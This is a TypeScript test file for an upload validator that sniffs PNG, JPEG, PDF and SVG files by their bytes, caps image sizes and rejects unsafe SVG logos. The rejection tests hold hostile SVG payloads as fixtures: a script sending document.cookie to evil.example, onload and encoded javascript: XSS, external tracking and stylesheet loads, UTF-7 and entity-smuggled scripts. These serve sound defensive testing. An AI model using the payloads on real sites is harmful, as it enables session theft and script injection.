import { describe, expect, it } from 'vitest';
import { pngClaiming, pngFile } from '../test/pngFile';
import { imageRefusal, maxImageSide, sniffAttachmentType } from './attachments';
import { findField, findGroup } from './settings/catalogue';

const bytes = (text: string) => new TextEncoder().encode(text);
const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A baseline JPEG's segments up to its frame header: SOI, a JFIF APP0, then SOF0 with the size. */
function jpegHeader(width: number, height: number): Buffer {
  const app0 = [0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00];
  const sof0 = [0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1];
  return Buffer.from([0xff, 0xd8, ...app0, 0xff, ...sof0, 0xff, 0xd9]);
}

describe('what a file really is, by its first bytes', () => {
  it('knows PNG, JPEG, PDF and SVG, whatever the name says', () => {
    expect(sniffAttachmentType(pngFile(1, 1, [0, 0, 0]))).toBe('image/png');
    expect(sniffAttachmentType(Uint8Array.of(0xff, 0xd8, 0xff, 0xe0))).toBe('image/jpeg');
    expect(sniffAttachmentType(bytes('%PDF-1.7\n'))).toBe('application/pdf');
    expect(sniffAttachmentType(bytes('\uFEFF<?xml version="1.0"?>\n<!-- logo -->\n<!DOCTYPE svg>\n<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBe('image/svg+xml');
    expect(sniffAttachmentType(bytes('<svg>'))).toBe('image/svg+xml');
  });

  it('refuses look-alikes: a PNG signature cut short, HTML, text that mentions <svg later, nothing at all', () => {
    expect(sniffAttachmentType(Uint8Array.of(0x89, 0x50, 0x4e, 0x47))).toBeNull();
    expect(sniffAttachmentType(Buffer.concat([pngSignature, Buffer.from('<html><script>alert(1)</script>')]))).toBeNull();
    expect(sniffAttachmentType(bytes('<html><svg></svg></html>'))).toBeNull();
    expect(sniffAttachmentType(bytes('Dit is geen <svg>'))).toBeNull();
    expect(sniffAttachmentType(bytes('<svgx>'))).toBeNull();
    expect(sniffAttachmentType(bytes('PDF-1.7'))).toBeNull();
    expect(sniffAttachmentType(new Uint8Array())).toBeNull();
  });
});

describe('an image a logo field takes: its size in pixels and an SVG that only draws', () => {
  it('reads the size from the PNG and JPEG header and refuses one wider or taller than the maximum, saying how large it is', () => {
    expect(imageRefusal(pngFile(40, 20, [1, 2, 3]), 'image/png')).toBeNull();
    expect(imageRefusal(pngClaiming(maxImageSide, maxImageSide), 'image/png')).toBeNull();
    expect(imageRefusal(pngClaiming(20000, 20000), 'image/png')).toEqual({ reason: 'image.tooManyPixels', values: { width: 20000, height: 20000, max: 4000 } });
    expect(imageRefusal(pngClaiming(10, maxImageSide + 1), 'image/png')).toMatchObject({ reason: 'image.tooManyPixels' });
    expect(imageRefusal(jpegHeader(640, 480), 'image/jpeg')).toBeNull();
    expect(imageRefusal(jpegHeader(12000, 300), 'image/jpeg')).toEqual({ reason: 'image.tooManyPixels', values: { width: 12000, height: 300, max: 4000 } });
  });

  it('refuses a JPEG or PNG whose header gives no size', () => {
    expect(imageRefusal(Uint8Array.of(0xff, 0xd8, 0xff, 0xe0), 'image/jpeg')).toEqual({ reason: 'image.type' });
    expect(imageRefusal(Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.from('<html><script>alert(1)</script>')]), 'image/jpeg')).toEqual({ reason: 'image.type' });
    expect(imageRefusal(jpegHeader(0, 480), 'image/jpeg')).toEqual({ reason: 'image.type' });
    const brokenCrc = Buffer.from(pngFile(4, 4, [0, 0, 0]));
    brokenCrc[17] = 9; // width changed, CRC not
    expect(sniffAttachmentType(brokenCrc)).toBeNull();
  });

  const svg = (inner: string, attributes = '') => bytes(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attributes}>${inner}</svg>`);

  it('takes an SVG that only draws, with gradients, local references, styles and an SVG doctype', () => {
    const drawing = svg(
      '<defs><linearGradient id="g"><stop offset="0" stop-color="#c00"/></linearGradient><path id="p" d="M0 0h10v10z"/></defs>' +
        '<style>.a{fill:url(#g);font-family:"Open Sans"}</style><use href="#p"/><use xlink:href="#p" class="a"/><rect fill="url(\'#g\')" width="10" height="10"/><text font-size="4">Fietsenwinkel De Spaak</text>',
      ' width="120" height="40" viewBox="0 0 120 40"',
    );
    expect(imageRefusal(drawing, 'image/svg+xml')).toBeNull();
    const doctype = bytes('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>');
    expect(imageRefusal(doctype, 'image/svg+xml')).toBeNull();
  });

  it.each([
    ['a script element', svg('<script>fetch("https://evil.example/"+document.cookie)</script>')],
    ['a namespaced script element', svg('<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>')],
    ['an onload handler', svg('', ' onload="alert(document.domain)"')],
    ['an event handler written with character references', svg('<rect o&#110;click="alert(1)"/>')],
    ['a javascript: link', svg('<a href="javascript:alert(1)"><rect/></a>')],
    ['a javascript: link split by a tab and encoded', svg('<a xlink:href="java&#x09;scr&#105;pt:alert(1)"><rect/></a>')],
    ['a foreignObject with HTML', svg('<foreignObject><div>hallo</div></foreignObject>')],
    ['an image from a website', svg('<image href="https://evil.example/pixel.png"/>')],
    ['an image embedded as a data URL', svg('<image xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>')],
    ['a use of another file', svg('<use href="sprites.svg#logo"/>')],
    ['a stylesheet processing instruction', bytes('<?xml-stylesheet href="https://evil.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['a CSS url() to a website', svg('<rect style="fill:url(https://evil.example/track)"/>')],
    ['a CSS @import', svg('<style>@import "https://evil.example/a.css";</style>')],
    ['an animation that sets an href', svg('<a><set attributeName="href" to="https://evil.example"/><rect/></a>')],
    ['an HTML element', svg('<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>')],
    ['an encoding read otherwise in a browser', bytes('<?xml version="1.0" encoding="UTF-7"?><svg xmlns="http://www.w3.org/2000/svg">+ADw-script+AD4-</svg>')],
  ])('refuses an SVG with %s', (_what, file) => {
    expect(sniffAttachmentType(file)).toBe('image/svg+xml');
    expect(imageRefusal(file, 'image/svg+xml')).toEqual({ reason: 'image.unsafeSvg' });
  });

  it('refuses an SVG declaring entities, which could spell a script in pieces', () => {
    const file = bytes('<!DOCTYPE svg [<!ENTITY x "&#38;#60;script&#38;#62;alert(1)&#38;#60;/script&#38;#62;">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>');
    expect(imageRefusal(file, 'image/svg+xml')).toEqual({ reason: 'image.unsafeSvg' });
  });
});

describe('an upload field holds a reference', () => {
  const logo = findField(findGroup('company.general')!, 'logo')!;
  const terms = findField(findGroup('orders.terms')!, 'generalTermsPdf')!;
  const ref = { hash: 'c'.repeat(64), type: 'image/png', name: 'logo.png', size: 2048 };

  it('takes a reference of the right type and size, and "no file" as null', () => {
    expect(logo.schema.parse(ref)).toEqual(ref);
    expect(logo.schema.parse('')).toBeNull();
    expect(logo.schema.parse(null)).toBeNull();
  });

  it('refuses a data URL, a PDF for an image, a logo over its limit and a reference with extra keys', () => {
    const reason = (field: typeof logo, value: unknown) => field.schema.safeParse(value).error?.issues[0]?.message;
    expect(reason(logo, 'data:image/png;base64,iVBORw0KGgo=')).toBe('image.type');
    expect(reason(logo, { ...ref, type: 'application/pdf' })).toBe('image.type');
    expect(reason(logo, { ...ref, size: 1025 * 1024 })).toBe('image.tooLarge');
    expect(reason(logo, { ...ref, bytes: 'x' })).toBe('image.type');
    expect(terms.schema.safeParse({ ...ref, type: 'image/png' }).error?.issues[0]?.message).toBe('pdf.type');
  });
});
